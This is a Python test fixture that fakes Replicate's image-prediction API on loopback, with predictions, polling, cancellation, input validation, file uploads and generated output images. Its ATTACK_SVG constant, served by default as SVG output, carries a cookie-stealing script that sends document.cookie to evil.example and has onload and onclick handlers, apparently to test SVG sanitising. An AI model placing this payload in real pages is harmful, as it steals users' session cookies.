"""``FakeReplicate``: Replicate's HTTP API on loopback, built on :class:`imagegate.testing.FakeUpstream`.

For this plugin's tests and for the conformance suite and benchmarks. It serves models and
versions with Cog-style schemas (:mod:`imagegate_replicate.fake_schemas`), creates predictions on
the official-model endpoint and by version, answers ``Prefer: wait`` with the finished prediction
(``mode="sync"``) or, once ``max_wait_s`` has passed (default 0), with the prediction as it stands,
moves predictions ``starting -> processing -> succeeded`` as they are polled (``mode="slow"``),
keeps them ``processing`` for ever (``keep_processing = True``) until cancelled or let finish
(``let_finish()``), cancels them,
validates inputs against each model's schema (422 problem JSON with ``invalid_fields``; a file
input must be an http(s) URL or a base64 ``data:`` URI of a JPEG, PNG, GIF or WEBP image), and
serves the output files itself, as Replicate's CDN does (no key): real PNG/WEBP/JPEG bytes from
Pillow, and an SVG (by default one carrying a ``<script>`` and an ``onload`` handler). The FLUX.2
models answer with their shipped 2026 schemas (:data:`~imagegate_replicate.fake_schemas.FLUX2`).
``fail_like_replicate(status)`` answers with Replicate's own 401/402/404/429 bodies; unknown
models are 404 problem JSON.

The base gives the rest: every call recorded in ``calls`` (``calls_to``; the token left out, its
check in ``authorized``), ``fail_with``, ``hang``/``release`` (calls held unanswered), a 401 for a
wrong token. With ``spec_path`` (Replicate's OpenAPI excerpt), every request body it receives and
every prediction it answers is validated against the spec; problems land in ``schema_errors``
(``assert_valid()``).
"""

from __future__ import annotations

import asyncio
import base64
import binascii
import hashlib
import json
import secrets
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from aiohttp import web

from imagegate.files import sniff_mime
from imagegate.testing import FakeUpstream, ReceivedCall, image_bytes
from imagegate.testing.fake_upstream import CALL_KEY

from .fake_schemas import COMMUNITY, COMMUNITY_MODEL, COMMUNITY_VERSION, OFFICIAL_MODELS
from .schema import inline_refs

__all__ = ["ATTACK_SVG", "REPLICATE_ERRORS", "FakeReplicate", "decode_file_input", "load_spec_schemas"]

ATTACK_SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="1024" height="1024" viewBox="0 0 1024 1024" '
    b'onload="alert(document.cookie)">'
    b'<script>fetch("https://evil.example/?c="+document.cookie)</script>'
    b'<rect x="0" y="0" width="1024" height="1024" fill="#f4efe6"/>'
    b'<circle cx="512" cy="512" r="300" fill="#c0392b" onclick="steal()"/></svg>'
)
_TERMINAL = {"succeeded", "failed", "canceled", "aborted"}
_MAX_UPLOAD_BYTES = 100 * 1024 * 1024  # Replicate's limit for an uploaded file
_FILE_MIMES = {"image/jpeg", "image/png", "image/gif", "image/webp"}
REPLICATE_ERRORS: dict[int, dict[str, Any]] = {
    401: {"title": "Unauthenticated", "status": 401,
          "detail": "You did not pass a valid authentication token"},
    402: {"title": "Insufficient credit", "status": 402,
          "detail": "You have insufficient credit to run this model. Go to "
                    "https://replicate.com/account/billing to purchase credit. Once you purchase credit, "
                    "please wait a few minutes before you try again."},
    404: {"title": "Not found", "status": 404, "detail": "The requested resource could not be found."},
    429: {"title": "Request was throttled.", "status": 429,
          "detail": "Request was throttled. Your rate limit resets in ~{s}s."},
}
"""Replicate's problem JSON for these statuses (``{s}``: the ``Retry-After`` seconds)."""
_CONTENT_TYPES = {"png": "image/png", "webp": "image/webp", "jpg": "image/jpeg", "jpeg": "image/jpeg",
                  "svg": "image/svg+xml"}
_PROBLEM_JSON = "application/problem+json"


def _now() -> str:
    return datetime.now(UTC).isoformat(timespec="microseconds").replace("+00:00", "Z")


def _new_id() -> str:
    return "".join(secrets.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(26))


def _nullable(node: Any) -> Any:
    """OpenAPI 3.0 ``nullable: true`` as JSON Schema (``type: [t, "null"]``)."""
    if isinstance(node, list):
        return [_nullable(item) for item in node]
    if not isinstance(node, dict):
        return node
    out = {key: _nullable(value) for key, value in node.items() if key != "nullable"}
    if node.get("nullable") is True and isinstance(out.get("type"), str):
        out["type"] = [out["type"], "null"]
    return out


def decode_file_input(value: str) -> tuple[str, bytes]:
    """``(mime type, bytes)`` of a base64 ``data:`` URI file input; ValueError if it is not one."""
    header, sep, payload = value.partition(",")
    if not (sep and header.startswith("data:") and header.endswith(";base64")):
        msg = "not a base64 data URI"
        raise ValueError(msg)
    try:
        return header[5:-7], base64.b64decode(payload, validate=True)
    except binascii.Error:
        msg = "the data URI is not valid base64"
        raise ValueError(msg) from None


def _image_of_its_type(mime: str | None, data: bytes) -> bool:
    return mime in _FILE_MIMES and sniff_mime(data) == mime


def load_spec_schemas(spec_path: str | Path) -> dict[str, dict[str, Any]]:
    """The spec's component schemas, standalone (refs inlined, ``nullable`` honoured)."""
    spec = json.loads(Path(spec_path).read_text())
    components = spec["components"]["schemas"]
    return {name: _nullable(inline_refs(schema, components)) for name, schema in components.items()}


def _schema_problems(schema: dict[str, Any], value: Any) -> list[str]:
    from jsonschema import Draft202012Validator, FormatChecker

    validator = Draft202012Validator(schema, format_checker=FormatChecker())
    return [error.message for error in validator.iter_errors(value)]


def _prefer_problems(call: ReceivedCall) -> list[str]:
    """The spec's ``Prefer`` header: ``wait`` or ``wait=N`` with N from 1 to 60."""
    prefer = call.headers.get("Prefer", "")
    seconds = prefer[5:]
    if not prefer or prefer == "wait" or (prefer.startswith("wait=") and seconds.isdigit()
                                          and 1 <= int(seconds) <= 60):
        return []
    return [f"Prefer header {prefer!r} does not match the spec"]


@dataclass(slots=True)
class _Model:
    owner_name: str
    version: str
    schema: dict[str, Any]
    official: bool
    output_list: bool
    default_format: str


@dataclass(slots=True)
class _Prediction:
    record: dict[str, Any]
    model: _Model
    steps_left: float
    done: asyncio.Event = field(default_factory=asyncio.Event)


class FakeReplicate(FakeUpstream):
    """A Replicate-compatible server on 127.0.0.1 (free port); ``start()`` then ``stop()``."""

    base_path = "/v1"
    public_prefixes = ("/files/",)  # the output files: Replicate's CDN, no token
    error_content_type = _PROBLEM_JSON

    def __init__(self, *, mode: str = "sync", token: str | None = "r8_test",
                 spec_path: str | Path | None = None, max_wait_s: float = 0.0) -> None:
        super().__init__(api_key=token)
        self.mode = mode
        self.max_wait_s = max_wait_s
        self.keep_processing = False
        """Every prediction created from now on stays ``processing`` until cancelled."""
        self.outcome: tuple[str, str | None] = ("succeeded", None)
        self.svg = ATTACK_SVG
        self.predictions: dict[str, _Prediction] = {}
        self.files: dict[str, tuple[dict[str, Any], bytes]] = {}
        """Uploaded files (``POST /v1/files``) not yet deleted: id -> (file object, bytes)."""
        self.models: dict[str, _Model] = {}
        self._schemas = load_spec_schemas(spec_path) if spec_path else None
        for name, info in OFFICIAL_MODELS.items():
            self.add_model(name, info["schema"], version=info["version"], official=True,
                           output_list=info["output_list"], default_format=info["default_format"])
        self.add_model(COMMUNITY_MODEL, COMMUNITY, version=COMMUNITY_VERSION)

    # control -----------------------------------------------------------------------------------

    @property
    def root(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def add_model(self, owner_name: str, schema: dict[str, Any], *, version: str, official: bool = False,
                  output_list: bool = True, default_format: str = "png") -> None:
        self.models[owner_name] = _Model(owner_name, version, schema, official, output_list, default_format)

    def let_finish(self) -> None:
        """Predictions kept ``processing`` finish at their next poll; new ones are no longer kept."""
        self.keep_processing = False
        for prediction in self.predictions.values():
            if prediction.record["status"] not in _TERMINAL:
                prediction.steps_left = 1

    def finish_as(self, status: str, error: str | None = None) -> None:
        """End the next predictions with this status (``failed`` with ``error``, ``canceled``, ...)."""
        self.outcome = (status, error)

    def fail_like_replicate(self, status: int, *, retry_after: int = 7, times: int = 1,
                            path: str | None = None) -> None:
        """Answer the next calls as Replicate does for 401, 402, 404 or 429 (with ``Retry-After``)."""
        body = dict(REPLICATE_ERRORS[status])
        body["detail"] = body["detail"].replace("{s}", str(retry_after))
        headers = {"Retry-After": str(retry_after)} if status == 429 else {}
        self.fail_with(status, body, headers, times=times, path=path)

    @property
    def creates(self) -> list[ReceivedCall]:
        """The prediction creations received (official-model and by-version)."""
        return [c for c in self.calls if c.method == "POST" and c.path.endswith("/predictions")]

    @property
    def cancels(self) -> list[ReceivedCall]:
        return self.calls_to("/cancel", "POST")

    async def stop(self) -> None:
        for prediction in self.predictions.values():
            prediction.done.set()
        await super().stop()

    # what the base asks for ----------------------------------------------------------------------

    def add_routes(self, router: web.UrlDispatcher) -> None:
        router.add_get("/v1/models/{owner}/{name}", self._get_model)
        router.add_get("/v1/models/{owner}/{name}/versions/{version}", self._get_version)
        router.add_post("/v1/models/{owner}/{name}/predictions", self._create_official)
        router.add_post("/v1/predictions", self._create_by_version)
        router.add_post("/v1/files", self._upload)
        router.add_get("/v1/files/{file_id}", self._get_file)
        router.add_delete("/v1/files/{file_id}", self._delete_file)
        router.add_get("/v1/predictions/{pid}", self._get_prediction)
        router.add_post("/v1/predictions/{pid}/cancel", self._cancel)
        router.add_get("/files/{pid}/{index}.{ext}", self._file)

    def error_body(self, status: int, message: str) -> Any:
        return REPLICATE_ERRORS.get(status) or {"title": message, "detail": message, "status": status}

    def problems_in(self, call: ReceivedCall) -> list[str]:
        """A create's body against the spec's request schema, and its ``Prefer`` header; an
        uploaded file's declared type against its bytes."""
        if call.method != "POST":
            return []
        if call.path == "/v1/files":
            return [f"upload {part.filename!r}: {part.content_type} does not match its bytes"
                    for part in call.form if part.name == "content"
                    and not _image_of_its_type(part.content_type, part.value)]
        if not call.path.endswith("/predictions"):
            return []
        name = ("schemas_version_prediction_request" if call.path == "/v1/predictions"
                else "schemas_prediction_request")
        found = [f"request body: {p}" for p in _schema_problems(self._schemas[name], call.body)] \
            if self._schemas is not None else []
        return found + _prefer_problems(call)

    # plumbing ----------------------------------------------------------------------------------

    def _problem(self, status: int, title: str, detail: str, **extra: Any) -> web.Response:
        return self.json(status, {"title": title, "detail": detail, "status": status, **extra},
                         content_type=_PROBLEM_JSON)

    def _not_found(self) -> web.Response:
        body = REPLICATE_ERRORS[404]
        return self._problem(404, body["title"], body["detail"])

    def _answer(self, prediction: _Prediction, status: int = 200) -> web.Response:
        if self._schemas is not None:
            self.schema_errors += [f"answer {prediction.record['id']}: {p}" for p in _schema_problems(
                self._schemas["schemas_prediction_response"], prediction.record)]
        return self.json(status, prediction.record)

    def _version_json(self, model: _Model) -> dict[str, Any]:
        return {"id": model.version, "created_at": "2025-01-01T00:00:00.000000Z", "cog_version": "0.13.6",
                "openapi_schema": model.schema}

    # models ------------------------------------------------------------------------------------

    async def _get_model(self, request: web.Request) -> web.Response:
        model = self.models.get(f"{request.match_info['owner']}/{request.match_info['name']}")
        if model is None:
            return self._not_found()
        owner, _, name = model.owner_name.partition("/")
        return self.json(200, {
            "url": f"https://replicate.com/{model.owner_name}", "owner": owner, "name": name,
            "description": f"{name} (fake)", "visibility": "public", "github_url": None, "paper_url": None,
            "license_url": None, "run_count": 1, "cover_image_url": None, "default_example": None,
            "latest_version": self._version_json(model)})

    async def _get_version(self, request: web.Request) -> web.Response:
        model = self.models.get(f"{request.match_info['owner']}/{request.match_info['name']}")
        if model is None or model.version != request.match_info["version"]:
            return self._not_found()
        return self.json(200, self._version_json(model))

    # predictions -------------------------------------------------------------------------------

    async def _create_official(self, request: web.Request) -> web.Response:
        model = self.models.get(f"{request.match_info['owner']}/{request.match_info['name']}")
        if model is None or not model.official:
            return self._not_found()
        return await self._create(request, model)

    async def _create_by_version(self, request: web.Request) -> web.Response:
        body = request[CALL_KEY].body
        version = str(body.get("version", "") if isinstance(body, dict) else "").rpartition(":")[2]
        model = next((m for m in self.models.values() if m.version == version), None)
        if model is None:
            return self._problem(422, "Invalid version", "Invalid version or not permitted",
                                 invalid_fields=[{"type": "invalid", "field": "version",
                                                  "description": "Invalid version or not permitted"}])
        return await self._create(request, model)

    def _file_uri(self, value: object) -> bool:
        """A file input Replicate can fetch: a data URI of a real image, a file uploaded here and
        not deleted, or another http(s) URL."""
        if not isinstance(value, str):
            return True  # the type keyword reports it
        if value.startswith("data:"):
            try:
                return _image_of_its_type(*decode_file_input(value))
            except ValueError:
                return False
        if value.startswith(f"{self.base_url}/files/"):
            return value.rpartition("/")[2] in self.files
        parts = urlsplit(value)
        return parts.scheme in ("http", "https") and bool(parts.netloc)

    def _input_errors(self, model: _Model, model_input: Any) -> list[tuple[str, str]]:
        from jsonschema import Draft202012Validator, FormatChecker

        components = model.schema["components"]["schemas"]
        formats = FormatChecker([])
        formats.checks("uri")(self._file_uri)
        validator = Draft202012Validator(inline_refs(components["Input"], components), format_checker=formats)
        return [(".".join(str(p) for p in error.path) or "input", error.message)
                for error in validator.iter_errors(model_input if isinstance(model_input, dict) else None)]

    async def _create(self, request: web.Request, model: _Model) -> web.Response:
        body = request[CALL_KEY].body
        model_input = body.get("input") if isinstance(body, dict) else None
        errors = self._input_errors(model, model_input)
        if errors:
            detail = "".join(f"- input.{name}: {message}\n" for name, message in errors)
            return self._problem(422, "Input validation failed", detail, invalid_fields=[
                {"type": "invalid", "field": f"input.{name}", "description": message}
                for name, message in errors])
        pid = _new_id()
        record = {
            "id": pid, "model": model.owner_name, "version": model.version, "input": model_input,
            "logs": "", "output": None, "data_removed": False, "error": None, "status": "starting",
            "created_at": _now(), "source": "api",
            "urls": {"get": f"{self.base_url}/predictions/{pid}",
                     "cancel": f"{self.base_url}/predictions/{pid}/cancel",
                     "web": f"https://replicate.com/p/{pid}", "stream": f"{self.root}/stream/{pid}"},
        }
        steps = float("inf") if self.keep_processing else (0 if self.mode == "sync" else 2)
        prediction = _Prediction(record, model, steps)
        self.predictions[pid] = prediction
        prefer = request.headers.get("Prefer", "")
        if prefer:
            if steps == 0:
                self._finish(prediction)
            else:
                wait_s = 60.0 if not prefer[5:].isdigit() else float(prefer[5:])
                try:
                    await asyncio.wait_for(prediction.done.wait(), min(wait_s, self.max_wait_s))
                except TimeoutError:
                    pass
        return self._answer(prediction, status=201)

    def _finish(self, prediction: _Prediction) -> None:
        record = prediction.record
        status, error = self.outcome
        record.update(status=status, completed_at=_now(), started_at=record.get("started_at") or _now())
        if status == "succeeded":
            model_input = record["input"] or {}
            fmt = str(model_input.get("output_format") or prediction.model.default_format)
            count = int(model_input.get("num_outputs") or 1) if prediction.model.output_list else 1
            urls = [f"{self.root}/files/{record['id']}/{i}.{fmt}" for i in range(count)]
            record["output"] = urls if prediction.model.output_list else urls[0]
            record["metrics"] = {"predict_time": 0.01, "total_time": 0.02}
        else:
            record["error"] = error
        prediction.done.set()

    async def _get_prediction(self, request: web.Request) -> web.Response:
        prediction = self.predictions.get(request.match_info["pid"])
        if prediction is None:
            return self._not_found()
        record = prediction.record
        if record["status"] not in _TERMINAL:
            prediction.steps_left -= 1  # for ever "processing" when it started with infinite steps
            if prediction.steps_left <= 0:
                self._finish(prediction)
            else:
                record.update(status="processing", started_at=record.get("started_at") or _now())
        return self._answer(prediction)

    async def _cancel(self, request: web.Request) -> web.Response:
        prediction = self.predictions.get(request.match_info["pid"])
        if prediction is None:
            return self._not_found()
        if prediction.record["status"] not in _TERMINAL:
            prediction.record.update(status="canceled", completed_at=_now())
            prediction.done.set()
        return self._answer(prediction)

    # input files (the Files API) -----------------------------------------------------------------

    async def _upload(self, request: web.Request) -> web.Response:
        content = next((part for part in request[CALL_KEY].form if part.name == "content"), None)
        if content is None or content.filename is None:
            return self._problem(400, "Bad request", "content: a file is required")
        data = content.value
        if len(data) > _MAX_UPLOAD_BYTES:
            return self._problem(413, "Request Entity Too Large", "Request Entity Too Large")
        file_id = _new_id()
        file = {"id": file_id, "name": content.filename, "content_type": content.content_type,
                "size": len(data),
                "etag": hashlib.md5(data, usedforsecurity=False).hexdigest(),
                "checksums": {"sha256": hashlib.sha256(data).hexdigest()}, "metadata": {},
                "created_at": _now(), "expires_at": None, "urls": {"get": f"{self.base_url}/files/{file_id}"}}
        self.files[file_id] = (file, data)
        return self.json(201, file)

    async def _get_file(self, request: web.Request) -> web.Response:
        found = self.files.get(request.match_info["file_id"])
        return self.json(200, found[0]) if found else self._not_found()

    async def _delete_file(self, request: web.Request) -> web.Response:
        if self.files.pop(request.match_info["file_id"], None) is None:
            return self._not_found()
        return web.Response(status=204)

    # output files --------------------------------------------------------------------------------

    async def _file(self, request: web.Request) -> web.Response:
        ext = request.match_info["ext"]
        if request.match_info["pid"] not in self.predictions or ext not in _CONTENT_TYPES:
            return web.Response(status=404, text="not found")
        if ext == "svg":
            data = self.svg
        else:
            data = await asyncio.to_thread(image_bytes, 64, 48, ext, seed=int(request.match_info["index"]))
        return web.Response(body=data, content_type=_CONTENT_TYPES[ext])
